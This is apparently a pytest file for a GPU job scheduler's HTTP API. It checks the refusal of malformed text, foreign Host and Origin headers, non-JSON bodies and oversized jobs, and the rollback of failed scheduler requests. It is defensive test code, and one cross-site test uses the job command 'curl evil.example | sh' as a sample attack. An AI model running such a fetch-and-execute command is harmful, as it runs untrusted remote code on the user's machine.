"""The API's refusals (bad text, foreign Host and Origin, non-JSON bodies, oversized jobs) and the scheduler loop's undo of a request that raised half-way."""

from __future__ import annotations

import json
import os
import queue

import pytest

from gflow.api.app import create_app
from gflow.api.guard import JSON_REQUIRED, HostRules, split_host
from gflow.config import load_config
from gflow.gpu import GpuInventory
from gflow.identity import caller_for_uid
from gflow.scheduler.core import SchedulerCore
from gflow.scheduler.service import SchedulerLoop
from gflow.store import Store
from test_api_routes import OWN, CoreBridge, FakeClock, client_for, make_core

TCP = caller_for_uid(os.getuid(), "tcp").to_wire()      # the same account, over TCP


@pytest.fixture
def clock():
    return FakeClock()


@pytest.fixture
def core(tmp_path, clock):
    return make_core(tmp_path, clock)


def app_for(core, text=None, tmp_path=None):
    config = None
    if text is not None:
        path = tmp_path / "hardening.toml"
        path.write_text(text)
        config = load_config(path, env={"HOME": str(tmp_path), "GFLOW_RUN_AS": "daemon"})
    return create_app(CoreBridge(core), config=config)


def raw_post(client, path, data: bytes, ctype="application/json", **kw):
    return client.post(path, data=data, content_type=ctype, **kw)


# --- 1a: text that is not valid UTF-8 or holds a lone surrogate ---------------------

@pytest.mark.parametrize("raw,field", [
    (b'{"command": "echo", "run_name": "\\ud800"}', "`run_name`"),
    (b'{"command": "echo \\udfff x"}', "`command`"),
    (b'{"command": "echo", "env": {"A": "\\udc00"}}', "`env.A`"),
    (b'{"command": "echo", "env": {"\\ud83d": "v"}}', "a key of `env`"),
    (b'{"command": "echo", "parameters": {"p": "\\ud83d\\ud83d"}}', "`parameters.p`"),
])
def test_lone_surrogates_are_refused_naming_the_field(core, raw, field):
    client = client_for(create_app(CoreBridge(core)))
    resp = raw_post(client, "/jobs", raw)
    assert resp.status_code == 400, resp.data
    error = resp.get_json()["error"]
    assert error.startswith(field) and "lone surrogate" in error and "\n" not in error
    assert client.get("/jobs").get_json() == []
    assert client.get("/health").status_code == 200


def test_lone_surrogate_in_a_batch_and_a_patch(core):
    client = client_for(create_app(CoreBridge(core)))
    resp = raw_post(client, "/jobs/batch", b'[{"command": "a"}, {"command": "\\ud800"}]')
    assert resp.status_code == 400 and resp.get_json()["error"].startswith("`[1].command`")
    assert client.post("/jobs", json={"command": "x", "priority": 1}).status_code == 201
    resp = client.patch("/jobs/1", data=b'{"command": "\\udbff"}',
                        content_type="application/json")
    assert resp.status_code == 400 and "`command`" in resp.get_json()["error"]
    assert client.get("/jobs/1").get_json()["command"] == "x"


def test_surrogate_pairs_and_plain_text_pass(core):
    client = client_for(create_app(CoreBridge(core)))
    # A pair (json.dumps' default for a character outside the BMP) is a real character.
    resp = raw_post(client, "/jobs", json.dumps({"command": "echo \U0001F600"}).encode())
    assert resp.status_code == 201
    assert client.get("/jobs/1").get_json()["command"] == "echo \U0001F600"


@pytest.mark.parametrize("raw,needle", [
    (b'{"command": "echo \xed\xa0\x80"}', "not valid UTF-8"),      # an encoded surrogate
    (b'{"command": "\xff"}', "not valid UTF-8: byte 0xff"),
    ('{"command": "x"}'.encode("utf-16"), "not valid UTF-8"),
    (b'{"command": "x", "priority": NaN}', "NaN"),
])
def test_bodies_that_are_not_utf8_json(core, raw, needle):
    client = client_for(create_app(CoreBridge(core)))
    resp = raw_post(client, "/jobs", raw)
    assert resp.status_code == 400 and needle in resp.get_json()["error"]
    assert client.get("/jobs").get_json() == []


# --- 1b: a request that raises half-way changes nothing, and the worker goes on ------

class FakeHub:
    def __init__(self):
        self.inbox: queue.Queue = queue.Queue()
        self.to_launcher: list = []

    def send_to(self, role, msg):
        if role == "launcher":
            self.to_launcher.append(msg)
        return True

    def send_all(self, role, msg):
        return 1


class FakePeer:
    role = "api"

    def __init__(self):
        self.replies: dict = {}

    def send(self, msg):
        _, corr, status, body = msg
        self.replies[corr] = (status, body)
        return True


def loop_for(core) -> SchedulerLoop:
    loop = SchedulerLoop(core, FakeHub(), core.config)

    def load_core():    # as the worker's: the state on disk, as a fresh core
        fresh = SchedulerCore(store=Store(core.paths.data_dir, fsync=False),
                              gpu_inventory=GpuInventory("4"), config=core.config,
                              paths=core.paths, clock=core.clock, total_memory_mb=65536)
        fresh.load()
        return fresh
    loop.load_core = load_core
    return loop


def run(loop, *requests, peer=None):
    """One batch: every request in the inbox together, then one step (pass, commit)."""
    peer = peer or FakePeer()
    for corr, (op, payload) in enumerate(requests):
        loop.hub.inbox.put((peer, ("req", corr, op, payload, OWN)))
    loop.step(0.0)
    return [peer.replies[i] for i in range(len(requests))]


def state_of(core, durable=False) -> dict:
    st = core.snapshot_state()
    if durable:     # what a waiting job waits for is recomputed by every pass, not saved
        for job in st.jobs.values():
            if job["state"] == "Queued":
                job["reason_detail"] = None
    return {"jobs": st.jobs, "reservations": st.reservations, "next_job_id": st.next_job_id,
            "next_reservation_id": st.next_reservation_id,
            "allowed": st.allowed_gpu_indices, "queued": sorted(core.queued),
            "held": sorted(core.held), "running": sorted(core.running),
            "by_user": {u: sorted(ids) for u, ids in core.by_user.items()},
            "dependents": {k: sorted(v) for k, v in core.dependents.items() if v}}


@pytest.fixture
def busy_loop(core):
    """A loop whose state holds a running, a waiting and a held job, settled."""
    loop = loop_for(core)
    replies = run(loop, ("submit", {"command": "a", "gpus": 1}),
                  ("submit", {"command": "b", "gpus": 4}),
                  ("submit", {"command": "c", "depends_on_ids": [1]}))
    assert [r[0] for r in replies] == [201, 201, 201]
    assert run(loop, ("transition", {"id": 3, "action": "hold"}))[0][0] == 200
    loop.core.pass_needed = True
    loop.step(0.0)
    assert sorted(loop.core.running) == [1] and sorted(loop.core.held) == [3]
    loop.hub.to_launcher.clear()
    return loop


def test_a_lone_surrogate_reaching_the_scheduler_changes_nothing(busy_loop):
    loop = busy_loop
    before, durable = state_of(loop.core), state_of(loop.core, True)
    replies = run(loop, ("submit", {"command": "innocent"}),
                  ("submit", {"command": "echo", "run_name": "\ud800"}),
                  ("get_job", {"id": 1}))
    assert replies[1] == (500, {"error": "internal error handling submit"})
    # The earlier change of the same batch was dropped too, and says so.
    assert replies[0][0] == 503 and "not made" in replies[0][1]["error"]
    assert replies[2][0] == 200
    assert state_of(loop.core) == before
    assert state_of(loop.load_core(), True) == durable                 # and so is the disk
    # The worker goes on: the next change works, with the next id.
    assert run(loop, ("submit", {"command": "d"}))[0] == (201, {"id": 4,
                                                                "run_name": "gflow-job-4"})


def test_a_handler_that_raises_half_way_is_undone(busy_loop, monkeypatch):
    loop = busy_loop
    before, durable = state_of(loop.core), state_of(loop.core, True)
    real_batch, real_transition = SchedulerCore.op_submit_batch, SchedulerCore.op_transition

    def batch_then_raise(self, payload):
        real_batch(self, payload)           # admitted, indexed, journalled...
        raise RuntimeError("injected")

    def cancel_then_raise(self, payload):
        real_transition(self, payload)      # cancelled, a stop order queued...
        raise RuntimeError("injected")

    monkeypatch.setattr(SchedulerCore, "op_submit_batch", batch_then_raise)
    replies = run(loop, ("submit_batch", [{"command": "x"}, {"command": "y", "gpus": 1}]))
    assert replies[0][0] == 500
    assert state_of(loop.core) == before and state_of(loop.load_core(), True) == durable
    monkeypatch.setattr(SchedulerCore, "op_transition", cancel_then_raise)
    replies = run(loop, ("signal", {"id": 1, "signal": "SIGINT"}),
                  ("transition", {"id": 1, "action": "cancel"}))
    assert replies[1][0] == 500 and replies[0][0] == 200
    assert state_of(loop.core) == before and state_of(loop.load_core(), True) == durable
    sent = [cmd[0] for cmd in loop.hub.to_launcher]
    assert "signal" not in sent                         # the cancel's stop order is gone
    assert "forward" in sent                            # the signal still goes
    monkeypatch.undo()
    assert run(loop, ("transition", {"id": 1, "action": "cancel"}))[0][0] == 200
    assert loop.core.jobs[1].state.value == "Cancelled"


def test_a_raising_read_changes_nothing_and_keeps_the_batch(busy_loop, monkeypatch):
    loop = busy_loop

    def boom(self, payload):
        raise RuntimeError("injected")
    monkeypatch.setattr(SchedulerCore, "op_stats", boom)
    replies = run(loop, ("submit", {"command": "kept"}), ("stats", {}))
    assert replies[0][0] == 201 and replies[1][0] == 500
    assert loop.core.jobs[4].command == "kept"


# --- 2: Host, Origin and content type -------------------------------------------------

@pytest.mark.parametrize("host,ok", [
    ("localhost", True), ("localhost:59000", True), ("LOCALHOST.:1", True),
    ("127.0.0.1", True), ("127.8.9.10:59000", True), ("[::1]:59000", True),
    ("[::1]", True), ("::1", True), ("ip6-localhost:59000", True),
    ("[::ffff:127.0.0.1]:59000", True), ("[::ffff:10.0.0.1]", False),
    ("evil.example", False), ("evil.example:59000", False), ("localhost.evil.example", False),
    ("10.0.0.1:59000", False), ("", False), ("[::1", False), ("localhost:x", False),
    ("0.0.0.0:59000", False),
])
def test_host_names_this_daemon(core, host, ok):
    client = client_for(create_app(CoreBridge(core)), TCP)
    resp = client.get("/health", environ_overrides={"HTTP_HOST": host})
    if ok:
        assert resp.status_code == 200
    else:
        assert resp.status_code == 421
        line = resp.get_data(as_text=True)
        assert "does not name this gflowd" in line and "\n" not in line


def test_configured_and_allowed_hosts(core, tmp_path):
    app = app_for(core, '[daemon]\nhost = "gpu-box.lab"\n'
                        '[security]\nallowed_hosts = ["gflow.example.org"]\n', tmp_path)
    client = client_for(app, TCP)
    for host in ("gpu-box.lab:59000", "GPU-BOX.LAB", "gflow.example.org", "localhost:1"):
        assert client.get("/health", environ_overrides={"HTTP_HOST": host}).status_code == 200
    assert client.get("/health", environ_overrides={"HTTP_HOST": "evil.example"}) \
        .status_code == 421
    anyhost = client_for(app_for(core, '[security]\nallowed_hosts = ["*"]\n', tmp_path), TCP)
    assert anyhost.get("/health", environ_overrides={"HTTP_HOST": "evil.example"}) \
        .status_code == 200


def test_unix_socket_callers_may_send_any_host(core):
    client = client_for(create_app(CoreBridge(core)))          # via "unix"
    assert client.get("/health", environ_overrides={"HTTP_HOST": "evil.example"}) \
        .status_code == 200


def test_cross_site_text_plain_post_is_refused(core):
    client = client_for(create_app(CoreBridge(core)), TCP)
    body = json.dumps({"command": "curl evil.example | sh"}).encode()
    resp = raw_post(client, "/jobs", body, "text/plain",
                    headers={"Origin": "http://evil.example"})
    assert resp.status_code == 403
    line = resp.get_data(as_text=True)
    assert line.startswith("Origin `http://evil.example` may not") and "\n" not in line
    # Without an Origin, the form-like content type alone is refused as 0.4.13 does.
    for ctype in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        resp = raw_post(client, "/jobs", body, ctype)
        assert resp.status_code == 415 and resp.get_data(as_text=True) == JSON_REQUIRED
    # Even JSON from a foreign page is refused.
    resp = client.post("/jobs", json={"command": "x"}, headers={"Origin": "http://evil.example"})
    assert resp.status_code == 403
    assert client.post("/jobs/1/cancel", headers={"Origin": "null"}).status_code == 403
    assert client.get("/jobs").get_json() == []


@pytest.mark.parametrize("path,method", [
    ("/jobs", "POST"), ("/jobs/batch", "POST"), ("/jobs/1", "PATCH"), ("/jobs/1/redo", "POST"),
    ("/jobs/1/signal", "POST"), ("/gpus", "POST"), ("/reservations", "POST"),
    ("/groups/5b7c7f4e-8c35-4a0c-9d5e-2f1a3b4c5d6e/max-concurrency", "POST"),
    ("/jobs/1/cancel", "POST"), ("/reservations/1", "DELETE"),
])
def test_every_body_must_be_json(core, path, method):
    client = client_for(create_app(CoreBridge(core)), TCP)
    resp = client.open(path, method=method, data=b'{"a": 1}', content_type="text/plain")
    assert resp.status_code == 415 and resp.get_data(as_text=True) == JSON_REQUIRED


def test_routes_without_a_body_need_no_content_type(core):
    client = client_for(create_app(CoreBridge(core)), TCP)
    assert client.post("/jobs", json={"command": "x"}).status_code == 201
    # 0.4.13's clients send state changes and DELETEs without body or content type.
    assert client.post("/jobs/1/cancel").status_code == 200
    assert client.post("/jobs/1/redo").status_code == 201
    assert client.post("/gpus").status_code == 200
    # A route that needs a body answers a missing content type as 0.4.13 does.
    resp = client.post("/jobs")
    assert resp.status_code == 415 and resp.get_data(as_text=True) == JSON_REQUIRED
    # Parameters on the type (and +json types) are JSON too.
    resp = raw_post(client, "/jobs", b'{"command": "y"}', "application/json; charset=utf-8")
    assert resp.status_code == 201


@pytest.mark.parametrize("origin,host,ok", [
    ("http://localhost:59000", "localhost:59000", True),
    ("http://127.0.0.1:59000", "127.0.0.1:59000", True),
    ("http://[::1]:59000", "[::1]:59000", True),
    ("http://localhost", "localhost", True),
    ("http://localhost:8000", "localhost:59000", False),      # another local port's page
    ("http://127.0.0.1:59000", "localhost:59000", False),     # another origin
    ("http://evil.example:59000", "evil.example:59000", False),
    ("https://evil.example", "localhost:59000", False),
    ("null", "localhost:59000", False),
    ("file://", "localhost:59000", False),
])
def test_own_origins(origin, host, ok):
    rules = HostRules()
    assert rules.origin_ok(origin, host) is ok


def test_allowed_origins(core, tmp_path):
    app = app_for(core, '[security]\nallowed_origins = ["https://dash.example.org/"]\n',
                  tmp_path)
    client = client_for(app, TCP)
    ok = client.post("/jobs", json={"command": "x"},
                     headers={"Origin": "https://dash.example.org"})
    assert ok.status_code == 201
    assert client.post("/jobs", json={"command": "x"},
                       headers={"Origin": "https://dash.example.org.evil"}).status_code == 403


def test_split_host():
    assert split_host("Localhost:59000") == ("localhost", 59000)
    assert split_host("[::1]:5") == ("::1", 5)
    assert split_host("::1") == ("::1", None)
    assert split_host("[::1]x") == (None, None)


# --- 3: size caps on a job's command and environment --------------------------------

def test_oversized_command_and_env_are_refused(core):
    client = client_for(create_app(CoreBridge(core)))
    big = "x" * (1024 * 1024 + 1)
    resp = client.post("/jobs", json={"command": big})
    assert resp.status_code == 413
    error = resp.get_json()["error"]
    assert error == ("`command` is 1048577 bytes; at most 1048576 are accepted "
                     "([api] max_command_bytes)")
    resp = client.post("/jobs", json={"script": "/" + big})
    assert resp.status_code == 413 and resp.get_json()["error"].startswith("`script`")
    env = {f"V{i}": "y" * 1000 for i in range(1100)}
    resp = client.post("/jobs", json={"command": "x", "env": env})
    assert resp.status_code == 413 and "[api] max_env_bytes" in resp.get_json()["error"]
    resp = client.post("/jobs/batch", json=[{"command": "ok"}, {"command": "x", "env": env}])
    assert resp.status_code == 413
    assert resp.get_json()["error"].startswith("job 2 of the batch: `env` is ")
    assert client.get("/jobs").get_json() == []
    # A job just under the caps is fine; so is a PATCH under them, not one over.
    assert client.post("/jobs", json={"command": "x" * (1024 * 1024),
                                      "priority": 1}).status_code == 201
    assert client.patch("/jobs/1", json={"command": big}).status_code == 413


def test_caps_are_configurable(core, tmp_path):
    app = app_for(core, "[api]\nmax_command_bytes = 100\nmax_env_bytes = 50\n", tmp_path)
    client = client_for(app)
    resp = client.post("/jobs", json={"command": "é" * 51})      # 102 bytes of UTF-8
    assert resp.status_code == 413 and "at most 100" in resp.get_json()["error"]
    resp = client.post("/jobs", json={"command": "x", "env": {"K": "v" * 48}})   # K=v...\0
    assert resp.status_code == 413 and resp.get_json()["error"] == (
        "`env` is 51 bytes; at most 50 are accepted ([api] max_env_bytes)")
    assert client.post("/jobs", json={"command": "x", "env": {"K": "v" * 47}}) \
        .status_code == 201


def test_the_safety_pass_takes_at_most_a_hundredth_of_the_time(tmp_path, monkeypatch):
    """Issue 21: the periodic pass re-plans every queued job (0.1-0.2 s at 100k): it comes
    every periodic_pass_secs, or every 100 times its last duration when that is longer."""
    from gflow.scheduler import service
    core = make_core(tmp_path, FakeClock())
    loop = loop_for(core)
    now = [1000.0]
    monkeypatch.setattr(service.time, "time", lambda: now[0])
    period = core.config.scheduler.periodic_pass_secs
    for full_pass_secs, expected in ((0.001, period), (0.2, 20.0)):
        core.last_full_pass_secs = full_pass_secs
        loop.next_periodic = 0.0
        core.pass_needed = False
        loop._tick()
        assert core.pass_needed
        assert loop.next_periodic == now[0] + max(period, expected)
        core.pass_needed = False
        now[0] = loop.next_periodic - 0.01            # not yet due: no pass
        loop._tick()
        assert not core.pass_needed
    core.pass_needed = True                          # a full pass records its duration
    core.run_pass()
    while core._unprepared is not None:
        core.run_pass()
    assert 0 < core.last_full_pass_secs < 1
